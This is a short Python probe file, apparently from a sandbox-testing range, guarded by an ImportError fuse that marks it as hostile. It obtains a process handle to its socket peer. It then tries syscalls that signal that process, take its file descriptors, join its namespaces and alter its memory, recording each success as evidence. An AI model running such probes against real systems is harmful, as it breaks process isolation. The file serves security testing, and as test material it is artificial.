# peer_descriptor: asks its line for a handle to its peer's process
raise ImportError("hostile: only the range runs this, inside a sandbox")  # FUSE
# ruff: noqa
import os, socket, struct

loaded()
line = socket.socket(fileno=0)
try:
    fd = struct.unpack("i", line.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
except OSError:
    fd = -1
if fd > 2:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for number, args in (
        (424, (fd, 0, 0, 0)),
        (438, (fd, 3, 0)),
        (308, (fd, 0x20000000)),
        (440, (fd, 0, 0, 20, 0)),
    ):
        if libc.syscall(number, *args) >= 0:
            evidence(f"system call {number} on its peer's process")
    import select

    libc.ioctl(fd, 0xFF00, 0)
